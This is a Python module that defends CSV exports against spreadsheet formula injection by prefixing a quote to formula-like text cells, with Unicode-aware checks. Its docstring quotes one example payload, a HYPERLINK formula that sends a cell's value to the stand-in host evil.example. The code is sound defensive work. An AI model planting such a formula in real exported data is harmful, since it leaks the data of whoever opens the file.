"""CSV cells a spreadsheet shows and never runs (SECURITY 43).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, after a TAB, CR or LF, whatever follows) as a formula: a contact named
``=HYPERLINK("http://evil.example/?x="&A2,"Click")`` would run in the accountant's spreadsheet.
OWASP's rule is applied: such a cell is written with a leading ``'``, which makes it text.

The first character is not the whole story: spreadsheets skip leading blanks (a space, NBSP),
zero-width characters and NUL before deciding, and fold the fullwidth forms of the four
(U+FF1D, U+FF0B, U+FF0D, U+FF20) to ASCII. So the decision is taken on the first *meaningful*
character: leading whitespace, control and format characters (zero-width space and joiners,
BOM, word joiner, NUL) are skipped and the rest is compared after NFKC normalisation. A cell
that itself starts with TAB, CR, LF or NUL is neutralised too (OWASP ASVS 5.0 1.2.10). Only a
``'`` is ever added: the user's value is otherwise written exactly as it came.

A number is not a formula: a typed amount (``Decimal``, ``int`` or a finite ``float``) such as
``-5.00`` is written as it is, so money columns stay numbers a spreadsheet can add up. A *text*
field that merely looks like one (an invoice numbered ``-5``, a name ``+1 555``) is neutralised
like any other text: only the type the API client gave the value decides, never its content.
"""

from __future__ import annotations

import math
import unicodedata
from decimal import Decimal

__all__ = ["CONTROL_STARTS", "FORMULA_STARTS", "csv_cell"]

#: First meaningful characters that make a spreadsheet read a cell as a formula (OWASP CSV
#: injection), compared after NFKC normalisation (so fullwidth U+FF1D counts as ``=``).
FORMULA_STARTS = ("=", "+", "-", "@")

#: Characters that make a cell suspect when the cell itself starts with them.
CONTROL_STARTS = ("\t", "\r", "\n", "\0")


def _is_number(value: object) -> bool:
    if isinstance(value, bool):
        return False
    if isinstance(value, Decimal):
        return value.is_finite()  # "-Infinity" and "NaN" are text to a spreadsheet
    if isinstance(value, float):
        return math.isfinite(value)
    return isinstance(value, int)


def _skipped(char: str) -> bool:
    """A character a spreadsheet passes over before it decides what a cell is.

    Whitespace (NBSP, ideographic space...), control characters (NUL) and format characters
    (category ``Cf``: U+200B..U+200D, U+FEFF, U+2060, bidi marks) are invisible or blank.
    """
    return char.isspace() or unicodedata.category(char) in ("Cc", "Cf")


def _looks_like_formula(text: str) -> bool:
    if text.startswith(CONTROL_STARTS):
        return True
    normalised = unicodedata.normalize("NFKC", text)
    for char in normalised:
        if not _skipped(char):
            return char in FORMULA_STARTS
    return False


def csv_cell(value: object, *, neutralise: bool = True) -> str:
    """The text of one CSV cell: ``''`` for ``None``; a formula-like text gets a ``'`` first.

    >>> csv_cell("=1+1"), csv_cell(Decimal("-5.00")), csv_cell("-5"), csv_cell(" \\u200b=1")
    ("'=1+1", '-5.00', "'-5", "' \\u200b=1")
    """
    if value is None:
        return ""
    text = str(value)
    if neutralise and not _is_number(value) and _looks_like_formula(text):
        return "'" + text
    return text
